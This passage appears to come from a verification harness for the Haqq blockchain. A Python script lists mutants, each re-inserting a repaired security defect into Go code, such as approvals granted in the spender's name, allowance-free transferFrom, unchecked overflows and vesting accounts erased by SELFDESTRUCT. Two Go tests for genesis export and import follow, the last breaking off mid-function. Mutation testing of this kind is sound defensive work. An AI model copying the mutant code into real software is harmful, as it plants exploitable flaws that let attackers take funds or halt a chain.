  "\t\ttxHash := ethMsg.AsTransaction().Hash()\n\t\tethMsg.Hash = txHash.Hex()\n\t\tif txHash == ethHash {", "\t\ttxHash := ethMsg.AsTransaction().Hash()\n\t\tethMsg.Hash = txHash.Hex()\n\t\tif len((*tx).GetMsgs()) == 1 {\n\t\t\treturn ethMsg, nil\n\t\t}\n\t\tif txHash == ethHash {",
  "returns-the-asked-transaction", "the only message of an envelope is returned for any hash")
m("c18-effective-fee-zero-basefee", "C18", "x/evm/types/msg.go",
  "\treturn txData.EffectiveFee(baseFee)\n", "\tif baseFee != nil && baseFee.Sign() == 0 {\n\t\treturn txData.Fee()\n\t}\n\treturn txData.EffectiveFee(baseFee)\n",
  "GetEffectiveFee#delegates", "a zero base fee is treated as no base fee")
m("c19-display-denom-alias", "C19", "x/erc20/keeper/proposals.go",
  "\tk.SetDenomMap(ctx, pair.Denom, pair.GetID())\n\tk.SetERC20Map(ctx, common.HexToAddress(pair.Erc20Address), pair.GetID())\n\n\treturn &pair, nil\n}\n\n// RegisterERC20 creates", "\tk.SetDenomMap(ctx, pair.Denom, pair.GetID())\n\tif coinMetadata.Display != \"\" {\n\t\tk.SetDenomMap(ctx, coinMetadata.Display, pair.GetID())\n\t}\n\tk.SetERC20Map(ctx, common.HexToAddress(pair.Erc20Address), pair.GetID())\n\n\treturn &pair, nil\n}\n\n// RegisterERC20 creates",
  "SetDenomMap-key", "an alias entry that the genesis import does not rebuild")

# ---------------- rules written for the defect hunters' findings (each mutant re-introduces the repaired defect) ----------------
m("c04-allocation-drops-allowlist", "C04", "precompiles/ics20/types.go",
  "\t\t\tSpendLimit:    spendLimit,\n\t\t\tAllowList:     a.AllowList,\n", "\t\t\tSpendLimit:    spendLimit,\n",
  "all-fields", "the allow list of an approved allocation is dropped")
m("c09-funder-stored-raw", "C09", "x/vesting/keeper/msg_server.go",
  "\tva.FunderAddress = newFunder.String()\n", "\tva.FunderAddress = msg.NewFunderAddress\n",
  "FunderAddress-canonical", "the funder is recorded as spelled in the message")
m("c16-creation-height-unguarded", "C16", "precompiles/staking/types.go",
  "\tif !ok || !creationHeight.IsInt64() {\n", "\tif !ok {\n",
  "Int64-narrowing-guarded", "the creation height is narrowed modulo 2^64")
m("c08-selfdestruct-removes-vesting-account", "C08", "x/evm/keeper/statedb.go",
  "\tif _, isVesting := acct.(vestexported.VestingAccount); isVesting {\n\t\treturn errorsmod.Wrapf(types.ErrInvalidAccount, \"vesting account %s cannot be destructed\", addr)\n\t}\n", "\t_ = vestexported.VestingAccount(nil)\n",
  "spares-vesting-accounts", "SELFDESTRUCT deletes a vesting account and its lock-up")
m("c16-commission-first-coin", "C16", "precompiles/distribution/events.go",
  "\tb.Write(cmn.PackNum(reflect.ValueOf(coins.AmountOf(p.stakingKeeper.BondDenom(ctx)).BigInt())))", "\tb.Write(cmn.PackNum(reflect.ValueOf(coins[0].Amount.BigInt())))",
  "coins-read-by-denomination", "the commission event indexes an answer that may be empty", count=2)
m("c04-validator-address-raw", "C04", "precompiles/staking/types.go",
  "\treturn delegatorAddr, canonicalValidatorAddress(validatorAddress), amount, nil\n", "\treturn delegatorAddr, validatorAddress, amount, nil\n",
  "ValidatorAddress-canonical", "the validator is forwarded as spelled in calldata")
m("c04-redelegate-destination-raw", "C04", "precompiles/staking/types.go",
  "\t\tValidatorDstAddress: canonicalValidatorAddress(validatorDstAddress),\n", "\t\tValidatorDstAddress: validatorDstAddress,\n",
  "ValidatorDstAddress-canonical", "the destination validator is forwarded as spelled in calldata")
m("c04-canonical-helper-returns-input", "C04", "precompiles/staking/types.go",
  "\treturn valAddr.String()\n}", "\t_ = valAddr\n\treturn address\n}",
  "-canonical", "the canonicalising helper returns its input")
for prop in ("C04", "C05"):
    m("c%s-erc20-run-on-live-context" % prop[1:], prop, "precompiles/erc20/erc20.go",
      "\tctx, writeCache := ctx.CacheContext()\n", "\twriteCache := func() {}\n",
      "(precompiles/erc20.Precompile).Run#handlers-run-on-a-branch", "the ERC-20 precompile runs on the transaction's own context")
m("c05-werc20-write-before-gas-check", "C05", "precompiles/werc20/werc20.go",
  "\tctx, writeCache := ctx.CacheContext()\n", "\tctx, writeCache := ctx.CacheContext()\n\twriteCache()\n",
  "(precompiles/werc20.Precompile).Run#handlers-run-on-a-branch", "the branch is written before the method ran")
m("c02-deposit-mirror-halved", "C02", "precompiles/werc20/tx.go",
  "\tstateDB.AddBalance(dst, amount)\n\tstateDB.SubBalance(contract.Address(), amount)\n", "\tstateDB.AddBalance(dst, amount)\n",
  "Deposit#attached-value-handed-back", "deposit credits the caller without debiting the precompile address")
m("c02-deposit-credits-origin", "C02", "precompiles/werc20/tx.go",
  "\tdst := contract.Caller()\n", "\tdst := contract.Address()\n",
  "Deposit#attached-value-handed-back", "deposit hands the value to another account")
m("c05-commit-writes-live-context", "C05", "x/evm/statedb/statedb.go",
  "\t\t\tif err := s.keeper.SetAccount(ctx, obj.Address(), obj.account); err != nil {", "\t\t\tif err := s.keeper.SetAccount(s.ctx, obj.Address(), obj.account); err != nil {",
  "flush-is-all-or-nothing", "one of the flush's writes goes to the live context")
m("c05-commit-records-before-write", "C05", "x/evm/statedb/statedb.go",
  "\t\t\t\tcommitted = append(committed, committedSlot{obj, key, dirtyValue})\n", "\t\t\t\tcommitted = append(committed, committedSlot{obj, key, dirtyValue})\n\t\t\t\tobj.transientStorage[key] = dirtyValue\n",
  "flush-is-all-or-nothing", "slots are recorded as flushed before the branch is written")
m("c05-commit-branch-never-written", "C05", "x/evm/statedb/statedb.go",
  "\twriteCache()\n\n\t// Update the pendingStorage", "\t_ = writeCache\n\n\t// Update the pendingStorage",
  "flush-is-all-or-nothing", "the flush's branch is never merged")
m("c04-erc20-spender-is-from", "C04", "precompiles/erc20/tx.go",
  "\tspenderAddr := contract.CallerAddress\n", "\tspenderAddr := from\n",
  "send-only-when-caller-is-the-owner", "every transferFrom takes the grant-less route")
m("c04-erc20-transfer-from-origin", "C04", "precompiles/erc20/tx.go",
  "\tfrom := contract.CallerAddress\n\tto, amount, err := ParseTransferArgs(args)", "\tfrom := contract.Address()\n\tto, amount, err := ParseTransferArgs(args)",
  "Transfer#sender-is-the-caller", "transfer() names another account as the sender")
m("c04-erc20-approve-granter-spender", "C04", "precompiles/erc20/approve.go",
  "\tgrantee := spender\n\tgranter := contract.CallerAddress\n", "\tgrantee := contract.CallerAddress\n\tgranter := spender\n",
  "Approve#granter-is-the-caller", "approve grants in the spender's name", count=3)
m("c04-erc20-send-for-any-transfer", "C04", "precompiles/erc20/tx.go",
  "\tif ownerIsSpender {\n\t\tmsgSrv := bankkeeper.NewMsgServerImpl(p.bankKeeper)", "\tif ownerIsSpender || amount.Sign() == 0 {\n\t\tmsgSrv := bankkeeper.NewMsgServerImpl(p.bankKeeper)",
  "send-only-when-caller-is-the-owner", "a second condition opens the grant-less route")
m("c13-max-supply-through-dec", "C13", "x/coinomics/keeper/inflation.go",
  "\tremaining := k.GetMaxSupply(ctx).Amount.Sub(k.bankKeeper.GetSupply(ctx, params.MintDenom).Amount)\n",
  "\tmaxSupplyDec, _ := sdk.NewDecFromStr(k.GetMaxSupply(ctx).Amount.String())\n\tremaining := maxSupplyDec.TruncateInt().Sub(k.bankKeeper.GetSupply(ctx, params.MintDenom).Amount)\n",
  "unchecked-NewDecFromStr", "the configured maximum passes a fallible conversion whose error is dropped")
m("c13-cap-compares-truncated-mint", "C13", "x/coinomics/keeper/inflation.go",
  "\tif blockMint.Ceil().RoundInt().GT(remaining) {", "\tif blockMint.TruncateInt().GT(remaining) {",
  "single-rounding", "the cap comparison truncates where the mint rounds")
m("c12-upgrade-repair-unconditional", "C12", "app/upgrades/v1.8.0/upgrades.go",
  "\tif !balISLM.Amount.Sub(amt.Amount).Equal(shares) {", "\tif balISLM.Amount.LT(amt.Amount) {",
  "keeps-the-equation", "the one-off repair of the DAO total no longer compares with the shares")
m("c17-zero-target-unguarded", "C17", "x/feemarket/keeper/eip1559.go",
  "\tif parentGasTarget == 0 {", "\tif parentGasTarget == 0 && parentGasUsed == 0 {",
  "target-divisor-non-zero", "the zero-target guard only covers empty blocks")
m("c09-vesting-end-unbounded", "C09", "x/vesting/types/msg.go",
  "\tif err := validateScheduleEnd(msg.StartTime, msg.VestingPeriods); err != nil {\n\t\treturn err\n\t}\n", "",
  "VestingPeriods/end-fits-int64", "the vesting periods' running end is not bounded", count=2)
m("c09-overflow-test-ignored", "C09", "x/vesting/types/msg.go",
  "\tif err := validateScheduleEnd(msg.StartTime, msg.LockupPeriods); err != nil {\n\t\treturn err\n\t}\n", "\t_ = validateScheduleEnd(msg.StartTime, msg.LockupPeriods)\n",
  "LockupPeriods/end-fits-int64", "the overflow test's verdict is dropped", count=2)
m("c07-gas-sum-unchecked", "C07", "app/ante/evm/setup_ctx.go",
  "\t\tif msgGas := msgEthTx.GetGas(); msgGas > math.MaxInt64 || txGasLimit > math.MaxInt64-msgGas {", "\t\tif msgGas := msgEthTx.GetGas(); msgGas == 0 && txGasLimit > math.MaxInt64 {",
  "overflow-tested", "the overflow test no longer involves the message's gas")
m("c01-estimation-uses-node-tracer", "C01", "x/evm/keeper/grpc_query.go",
  "\t\tif fromType == types.Internal {\n\t\t\ttracer = types.NewNoOpTracer()\n\t\t}\n", "\t\tif fromType == types.RPC {\n\t\t\ttracer = types.NewNoOpTracer()\n\t\t}\n",
  "EstimateGasInternal#tracer", "internal estimations run with the node's configured tracer again")
m("c01-begin-block-gas-left", "C01", "app/app.go",
  "\tctx.GasMeter().RefundGas(ctx.GasMeter().GasConsumed(), \"begin block gas is not charged to transactions\")\n", "",
  "meter-refunded-after-the-begin-blockers", "the begin blockers' gas stays on the block context")
m("c20-chain-id-not-set-at-construction", "C20", "app/app.go",
  "\tevmKeeper.WithChainIDString(chainID)\n", "",
  "eip155ChainID#set-at-construction", "the chain id is bound by the first BeginBlock only")
m("c19-symbol-stored-raw", "C19", "x/erc20/keeper/proposals.go",
  "strings.ToValidUTF8(erc20Data.Symbol, \"\\uFFFD\")", "strings.TrimSpace(erc20Data.Symbol)",
  "Metadata.Symbol-1-sanitised", "the contract's symbol is stored as returned")
m("c03-params-rewrite-slip", "C03", "app/upgrades/v1.8.0/upgrades.go",
  "\tparams := ek.GetParams(ctx)\n\tparams.ActivePrecompiles = evmtypes.AvailableEVMExtensions\n",
  "\tstored := ek.GetParams(ctx)\n\tparams := evmtypes.Params{EvmDenom: stored.EvmDenom, EnableCreate: stored.EnableCreate, EnableCall: stored.EnableCall, AllowUnprotectedTxs: stored.EnableCall, ExtraEIPs: stored.ExtraEIPs, ChainConfig: stored.ChainConfig, EVMChannels: stored.EVMChannels}\n\tparams.ActivePrecompiles = evmtypes.AvailableEVMExtensions\n",
  "Params.AllowUnprotectedTxs-1-from-its-namesake", "positive control of the expected-zero rule: a rebuilt parameter set with one slipped field")
m("c03-router-genesis-fast-path", "C03", "app/ante/ante.go",
  "\t\tvar anteHandler sdk.AnteHandler\n", "\t\tif ctx.BlockHeight() == 0 && !ctx.IsCheckTx() && !sim {\n\t\t\treturn ctx, nil\n\t\t}\n\t\tvar anteHandler sdk.AnteHandler\n",
  "success-only-through-a-route", "the router accepts genesis transactions itself")
m("c17-declared-gas-not-reset", "C17", "x/feemarket/keeper/abci.go",
  "\tk.SetTransientBlockGasWanted(ctx, 0)\n", "",
  "declared-gas-reset", "BeginBlock no longer resets the declared-gas counter")
m("c17-floor-truncated", "C17", "x/feemarket/keeper/eip1559.go",
  "params.MinGasPrice.Ceil().TruncateInt().BigInt()", "params.MinGasPrice.TruncateInt().BigInt()",
  "floor-is-the-ceiling-of-the-minimum", "the floor is rounded down")
m("c15-selfdestruct-removes-delegator", "C15", "x/evm/keeper/statedb.go",
  "\tif len(k.stakingKeeper.GetUnbondingDelegations(ctx, cosmosAddr, 1)) > 0 ||\n\t\tlen(k.stakingKeeper.GetDelegatorDelegations(ctx, cosmosAddr, 1)) > 0 {", "\tif len(k.stakingKeeper.GetDelegatorDelegations(ctx, cosmosAddr, 1)) > 0 {",
  "delegators-are-not-removed", "an account with only unbonding delegations is removed")
m("c07-selector-slice-unguarded", "C07", "precompiles/distribution/distribution.go",
  "\tif len(input) < 4 {\n\t\treturn 0\n\t}\n", "",
  "(precompiles/distribution.Precompile).RequiredGas#prefix-slice-1-guarded", "short calldata panics in RequiredGas again")
m("c09-merge-lowers-tracked-delegation", "C09", "x/vesting/keeper/msg_server.go",
  "sdk.MaxInt(trackedAmt, delegatedAmt)", "sdk.MinInt(trackedAmt, delegatedAmt)",
  "tracked-delegation-not-lowered", "the merge overwrites the tracking with the current figure alone")
m("c12-genesis-duplicates-by-spelling", "C12", "x/ucdao/types/genesis.go",
  "\t\tholder := balance.GetAddress().String()\n", "\t\tholder := balance.Address\n",
  "duplicates-by-decoded-address", "duplicate holders are recognised by spelling only")
m("c12-initgenesis-skips-validation", "C12", "x/ucdao/keeper/genesis.go",
  "\tif err := genState.Validate(); err != nil {\n\t\tpanic(fmt.Errorf(\"invalid ucdao genesis: %w\", err))\n\t}\n", "",
  "validates-before-writing", "InitGenesis no longer validates")
m("c16-claim-rewards-unbounded", "C16", "precompiles/distribution/tx.go",
  "\tif maxVals := p.stakingKeeper.MaxValidators(ctx); maxRetrieve > maxVals {", "\tif maxVals := p.stakingKeeper.MaxValidators(ctx); maxVals == 0 {",
  "maxRetrieve-1-bounded", "the caller-chosen count is no longer compared with a bound")
m("c16-panicking-decoder", "C16", "precompiles/common/types.go",
  "\taccAddr, err := sdk.AccAddressFromBech32(addr)\n\tif err != nil {\n\t\treturn res, err\n\t}\n\treturn common.BytesToAddress(accAddr), nil\n", "\treturn common.BytesToAddress(sdk.MustAccAddressFromBech32(addr)), nil\n",
  "panicking-decoder", "positive control of the expected-zero rule: a Must…Bech32 decoder in precompile code")
m("c10-escrow-not-bracketed", "C10", "x/erc20/keeper/msg_server.go",
  "\tif expEscrow := big.NewInt(0).Sub(escrowToken, tokens); escrowTokenAfter.Cmp(expEscrow) != 0 {", "\tif expEscrow := big.NewInt(0).Sub(escrowToken, tokens); escrowTokenAfter.Cmp(expEscrow) > 0 {",
  "escrow-balance-check", "the escrow comparison only catches an escrow that paid too little")
m("c02-getaccount-ignores-bank-balance", "C02", "x/evm/keeper/statedb.go",
  "\t\tif balance := k.GetBalance(ctx, addr); balance.Sign() > 0 {", "\t\tif balance := new(big.Int); balance.Sign() > 0 {",
  "nil-only-after-the-bank-balance", "GetAccount no longer looks at the bank balance of an account-less address")
m("c05-precompile-commits-instead-of-flushing", "C05", "precompiles/distribution/distribution.go",
  "\tif err := stateDB.Flush(); err != nil {", "\tif err := stateDB.Commit(); err != nil {",
  "(precompiles/distribution.Precompile).Run#flushes-without-deleting", "a precompile carries out pending SELFDESTRUCTs when it flushes")
m("c05-flush-deletes-selfdestructed", "C05", "x/evm/statedb/statedb.go",
  "\t\tif obj.suicided && deleteSuicided {", "\t\tif obj.suicided || deleteSuicided && obj.suicided {",
  "delete-only-when-final", "the write-back loop deletes self-destructed accounts on every flush")
m("c07-call-value-unguarded", "C07", "precompiles/common/precompile.go",
  "\tcase contract.Value() != nil && contract.Value().Sign() > 0 && p.HasReceive():", "\tcase contract.Value().Sign() > 0 && p.HasReceive():",
  "call-value-Sign-1-nil-guarded", "the call value is dereferenced without a nil test")
m("c02-delete-account-early-return", "C02", "x/evm/keeper/statedb.go",
  "\t\treturn k.SetBalance(ctx, addr, new(big.Int))\n\t}\n\n\t// NOTE: only Ethereum accounts", "\t\treturn nil\n\t}\n\n\t// NOTE: only Ethereum accounts",
  "clears-the-balance-on-every-success-path", "destroying a contract without an auth account leaves its coins")
m("c16-update-params-unchecked-precompiles", "C16", "x/evm/keeper/msg_server.go",
  "\t\tif !k.IsAvailablePrecompile(address) {\n\t\t\treturn nil, errorsmod.Wrapf(types.ErrInactivePrecompile", "\t\tif !k.IsAvailablePrecompile(address) && false {\n\t\t\treturn nil, errorsmod.Wrapf(types.ErrInactivePrecompile",
  "UpdateParams#active-precompiles-are-available", "the availability test decides nothing")
m("c07-feecap-truncation", "C07", "app/ante/evm/fee_checker.go",
  "\t\tif effectivePrice.Equal(feeCap) {\n\t\t\teffectiveAmount = fee\n\t\t}\n", "",
  "declared-fee-at-the-cap", "the checker charges cap x gas again")
m("c07-multiplier-default-for-zero", "C07", "x/evm/keeper/keeper.go",
  "\treturn k.feeMarketKeeper.GetParams(ctx).MinGasMultiplier\n", "\tmultiplier := k.feeMarketKeeper.GetParams(ctx).MinGasMultiplier\n\tif multiplier.IsNil() || multiplier.IsZero() {\n\t\treturn math.LegacyNewDecWithPrec(50, 2)\n\t}\n\treturn multiplier\n",
  "returns-the-stored-parameter", "a zero multiplier becomes 0.5")
m("c07-gas-total-on-the-branch", "C07", "x/evm/keeper/state_transition.go",
  "\ttotalGasUsed, err := k.AddTransientGasUsed(ctx, res.GasUsed)", "\ttotalGasUsed, err := k.AddTransientGasUsed(tmpCtx, res.GasUsed)",
  "on-the-tx-context", "the running gas total is kept on the message's branch")
m("c10-burn-error-not-returned", "C10", "x/erc20/keeper/msg_server.go",
  "\t\treturn nil, errorsmod.Wrap(err, \"failed to burn coins\")\n", "\t\terr = errorsmod.Wrap(err, \"failed to burn coins\")\n",
  "err-of-BurnCoins", "a failed burn is wrapped but not returned")
m("c11-stretch-through-the-narrow-setter", "C11", "app/upgrades/v1.7.4/handler.go",
  "\t\t\tlk.SetDenom(ctx, denom)\n", "\t\t\t_ = lk.UpdateDenomPeriods(ctx, denom.BaseDenom, denom.LockupPeriods)\n",
  "modified-denom-record-written-back", "the stretched record's EndTime is not stored")
m("c12-migration-early-return", "C12", "app/upgrades/v1.8.0/upgrades.go",
  "\toldDaoBalances := bk.GetAllBalances(ctx, oldDaoAccAddr)\n", "\toldDaoBalances := bk.GetAllBalances(ctx, oldDaoAccAddr)\n\tif oldDaoBalances.AmountOf(utils.BaseDenom).IsZero() {\n\t\treturn nil\n\t}\n",
  "moves-all-balances", "the migration skips an old account without aISLM")
m("c16-supply-net-of-nothing", "C16", "precompiles/bank/query.go",
  "\treturn method.Outputs.Pack(supply.Amount.BigInt())", "\treturn method.Outputs.Pack(supply.Amount.SubRaw(0).BigInt())",
  "SupplyOf#figures-unedited", "the supply passes through arithmetic")
m("c18-getvalue-hands-out-the-stored-number", "C18", "x/evm/types/legacy_tx.go",
  "\treturn tx.Amount.BigInt()\n", "\treturn tx.Amount.BigIntMut()\n",
  "BigIntMut", "GetValue returns the message's own big.Int")
m("c03-signbytes-of-a-copy", "C03", "x/vesting/types/msg.go",
  "func (msg *MsgClawback) GetSignBytes() []byte {\n\treturn sdk.MustSortJSON(AminoCdc.MustMarshalJSON(msg))", "func (msg *MsgClawback) GetSignBytes() []byte {\n\tsigned := MsgClawback{FunderAddress: msg.FunderAddress, AccountAddress: msg.AccountAddress}\n\treturn sdk.MustSortJSON(AminoCdc.MustMarshalJSON(&signed))",
  "MsgClawback).GetSignBytes#marshals-its-receiver", "the sign bytes leave dest_address out")
m("c02-wrapper-rewrites-a-copy", "C02", "x/ibc/transfer/keeper/msg_server.go",
  "\tmsg.Token.Denom = pair.Denom\n", "\tcopied := *msg\n\tcopied.Token.Denom = pair.Denom\n\tmsg = &copied\n",
  "rewrites-the-callers-message", "ibc-go is handed a copy of the message")
for prop in ("C16", "C07"):
    m("c%s-gas-meter-without-precharge" % prop[1:], prop, "precompiles/common/precompile.go",
      "sdk.NewGasMeter(initialGas + contract.Gas)", "sdk.NewGasMeter(contract.Gas)",
      "gas-meter-limit-covers-precharge", "later messages of a multi-message tx pay for earlier ones inside precompile calls")
m("c05-staking-run-without-branch", "C05", "precompiles/staking/staking.go",
  "\tctx, writeCache := ctx.CacheContext()\n", "\twriteCache := func() {}\n",
  "handlers-run-on-a-branch", "a failed staking precompile call leaves a torn message")
m("c12-ratio-hands-zero-coins", "C12", "x/ucdao/keeper/msg_server.go",
  "\t\tif !amt.IsPositive() {\n\t\t\tcontinue\n\t\t}\n", "",
  "zero-shares-left-out", "a dust denomination blocks the by-ratio transfer")
m("c15-burn-from-blocked-address", "C15", "x/evm/keeper/statedb.go",
  "\t\tif k.bankKeeper.BlockedAddr(cosmosAddr) {\n\t\t\treturn errorsmod.Wrapf(errortypes.ErrUnauthorized, \"cannot burn from blocked address %s\", cosmosAddr)\n\t\t}\n", "\t\t_ = errortypes.ErrUnauthorized\n",
  "burn-branch-refuses-blocked", "a stale pool balance is written back and the difference burned")

m("c09-validate-rejects-equal-times", "C09", "x/vesting/types/clawback_vesting_account.go",
  "\tif va.GetStartTime() > va.GetEndTime() {", "\tif va.GetStartTime() >= va.GetEndTime() {",
  "accepts-start-equal-end", "a fully clawed-back account is invalid")

m("c13-negative-branch-keeps-clock", "C13", "x/coinomics/keeper/inflation.go",
  "\t\tk.SetPrevBlockTS(ctx, currentBlockTS.RoundInt())\n\n\t\treturn nil\n\t}\n", "\t\treturn nil\n\t}\n",
  "clock-advances-on-every-success", "a negative computed mint leaves the mint clock where it was")

m("c01-tracer-derefs-nil-to", "C01", "x/evm/types/tracer.go",
  "\t\tif msg.To() != nil {\n\t\t\tto = *msg.To()\n\t\t} else {\n\t\t\tto = crypto.CreateAddress(msg.From(), msg.Nonce())\n\t\t}\n", "\t\t_ = crypto.CreateAddress\n\t\tto = *msg.To()\n",
  "To-dereferenced-under-guard", "the access-list tracer panics on contract creations")
m("c17-elasticity-zero-accepted", "C17", "x/feemarket/types/params.go",
  "\tif p.ElasticityMultiplier == 0 {\n\t\treturn fmt.Errorf(\"elasticity multiplier cannot be 0\")\n\t}\n\n", "",
  "rejects-zero-ElasticityMultiplier", "a zero divisor passes parameter validation")

m("c18-accesslist-chainid-unbounded", "C18", "x/evm/types/access_list_tx.go",
  "\tif _, err := types.SafeNewIntFromBigInt(tx.ChainId()); err != nil {\n\t\treturn nil, err\n\t}\n", "",
  "newAccessListTx#chain-id-bounded", "a chain id above 256 bits panics")
m("c18-effective-price-nil-basefee", "C18", "x/evm/types/dynamic_fee_tx.go",
  "\tif baseFee == nil {\n\t\t// no base fee (London not active): same as go-ethereum's Transaction.AsMessage\n\t\treturn tx.GetGasFeeCap()\n\t}\n", "",
  "nil-base-fee", "no base fee: nil dereference")
m("c19-export-cropped-addresses", "C19", "x/evm/genesis.go",
  "\t\tif len(ethAccount.GetAddress()) != common.AddressLength {\n\t\t\treturn false\n\t\t}\n", "",
  "lists-20-byte-accounts-only", "an account with a 32-byte address is exported under a cropped address")
m("c19-zero-height-key-sliced", "C19", "app/export.go",
  "sdk.ValAddress(stakingtypes.AddressFromValidatorsKey(iter.Key()))", "sdk.ValAddress(iter.Key()[1:])",
  "store-key-sliced-by-hand", "validator keys parsed with the pre-0.43 layout")
m("c19-registercoin-checks-name", "C19", "x/erc20/keeper/proposals.go",
  "k.IsDenomRegistered(ctx, coinMetadata.Base)", "k.IsDenomRegistered(ctx, coinMetadata.Name)",
  "duplicate-check-keyed-by-Base", "the duplicate check never hits")

m("c15-mint-for-blocked-address", "C15", "x/evm/keeper/statedb.go",
  "\t\tif k.bankKeeper.BlockedAddr(cosmosAddr) {\n\t\t\treturn errorsmod.Wrapf(errortypes.ErrUnauthorized, \"%s is not allowed to receive funds\", cosmosAddr)\n\t\t}\n", "",
  "mint-branch-refuses-blocked", "minted coins stay in the evm module account when the recipient is blocked")
m("c11-stretch-discards-remainder", "C11", "app/upgrades/v1.7.4/handler.go",
  "\textraPeriods[stretchDays-1].Amount = extraPeriods[stretchDays-1].Amount.Add(sdk.NewCoin(Denom, calculationDiff))", "\textraPeriods[stretchDays-1].Amount.Add(sdk.NewCoin(Denom, calculationDiff))",
  "discarded-Add", "the rounding remainder is computed and thrown away")
m("c05-uncommitted-on-live-ctx", "C05", "x/evm/keeper/state_transition.go",
  "\tif !commit {\n\t\tctx, _ = ctx.CacheContext()\n\t}\n", "",
  "uncommitted-runs-on-a-branch", "trial executions write precompile effects into the live state")

json.dump(M, open('/verif/mutants.json', 'w'), indent=1)
print(len(M), "mutants written")
