package epochs_test

import (
	"testing"
	"time"

	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/stretchr/testify/require"

	simapp "github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/epochs"
	"github.com/haqq-network/haqq/x/epochs/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

// export → import (at the height the new chain starts with) → export must give the same document.
func TestZZEpochsGenesisRoundTrip(t *testing.T) {
	fm := feemarkettypes.DefaultGenesisState()
	chainID := utils.TestEdge2ChainID + "-3"
	app, _ := simapp.Setup(false, fm, chainID)
	ctx := app.BaseApp.NewContext(false, tmproto.Header{Height: 1000, Time: time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)})

	// a running chain: the day epoch started at height 700
	info, found := app.EpochsKeeper.GetEpochInfo(ctx, types.DayEpochID)
	require.True(t, found)
	info.CurrentEpoch = 12
	info.EpochCountingStarted = true
	info.CurrentEpochStartHeight = 700
	info.CurrentEpochStartTime = ctx.BlockTime().Add(-6 * time.Hour)
	app.EpochsKeeper.SetEpochInfo(ctx, info)

	exported := epochs.ExportGenesis(ctx, app.EpochsKeeper)

	app2, _ := simapp.Setup(false, fm, chainID)
	ctx2 := app2.BaseApp.NewContext(false, tmproto.Header{Height: 1001, Time: ctx.BlockTime().Add(5 * time.Second)})
	for _, e := range app2.EpochsKeeper.AllEpochInfos(ctx2) {
		app2.EpochsKeeper.DeleteEpochInfo(ctx2, e.Identifier)
	}
	epochs.InitGenesis(ctx2, app2.EpochsKeeper, *exported)
	reexported := epochs.ExportGenesis(ctx2, app2.EpochsKeeper)

	require.Equal(t, exported, reexported, "re-exported epochs genesis differs from the exported one")
}
