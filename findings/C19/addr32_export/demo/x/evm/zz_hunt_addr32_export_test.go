package evm_test

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
)

// Property C19: an exported application state can be used to initialise a fresh chain and
// that chain carries the same module state.
//
// History: one ordinary, signed bank MsgSend of 1 aISLM to a bech32 address whose payload is
// 32 bytes long (the length of interchain accounts and of derived module addresses; the SDK
// accepts any length up to 255). The state is then exported with the application's own
// ExportAppStateAndValidators and a fresh application is initialised from the export.
func TestZZHuntExportWithNon20ByteAccountReimports(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"
	a, _ := app.Setup(false, nil, chainID)

	t0 := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
	probe := a.BaseApp.NewContext(false, testutil.NewHeader(1, t0, chainID, nil, nil, nil))
	vals := a.StakingKeeper.GetValidators(probe, 1)
	proposer, err := vals[0].GetConsAddr()
	require.NoError(t, err)

	header := testutil.NewHeader(1, t0, chainID, proposer, nil, nil)
	a.BeginBlock(abci.RequestBeginBlock{Header: header})
	ctx := a.BaseApp.NewContext(false, header)

	// an ordinary user with some funds
	sender, senderPriv := utiltx.NewAccAddressAndKey()
	require.NoError(t, testutil.FundAccountWithBaseDenom(ctx, a.BankKeeper, sender, 1e18))

	// a 32 byte account address
	raw := make([]byte, 32)
	for i := range raw {
		raw[i] = byte(0xA0 + i)
	}
	recipient := sdk.AccAddress(raw)
	one := sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 1))

	res, err := testutil.DeliverTx(ctx, a, senderPriv, nil, signing.SignMode_SIGN_MODE_DIRECT,
		banktypes.NewMsgSend(sender, recipient, one))
	require.NoError(t, err, "the transfer is an ordinary, valid transaction")
	require.True(t, res.IsOK(), res.Log)

	a.EndBlock(abci.RequestEndBlock{Height: 1})
	a.Commit()

	check := a.BaseApp.NewContext(true, header)
	require.NotNil(t, a.AccountKeeper.GetAccount(check, recipient), "the recipient account exists on the running chain")
	require.Equal(t, one, a.BankKeeper.GetAllBalances(check, recipient))

	exported, err := a.ExportAppStateAndValidators(false, nil, nil)
	require.NoError(t, err)

	// a fresh chain from the export
	b := app.NewHaqq(
		log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
		app.DefaultNodeHome, 5, encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(chainID),
	)
	var initPanic interface{}
	func() {
		defer func() { initPanic = recover() }()
		b.InitChain(abci.RequestInitChain{
			ChainId:         chainID,
			Time:            t0.Add(6 * time.Second),
			Validators:      []abci.ValidatorUpdate{},
			ConsensusParams: exported.ConsensusParams,
			AppStateBytes:   exported.AppState,
			InitialHeight:   exported.Height,
		})
	}()
	require.Nil(t, initPanic, fmt.Sprintf(
		"a chain must be initialisable from the state the application exported itself, but InitChain panicked: %v", initPanic))

	b.Commit()
	checkB := b.BaseApp.NewContext(true, header)
	require.NotNil(t, b.AccountKeeper.GetAccount(checkB, recipient), "the recipient account survives the export/import cycle")
	require.Equal(t, one, b.BankKeeper.GetAllBalances(checkB, recipient), "the recipient balance survives the export/import cycle")

	again, err := b.ExportAppStateAndValidators(false, nil, nil)
	require.NoError(t, err)
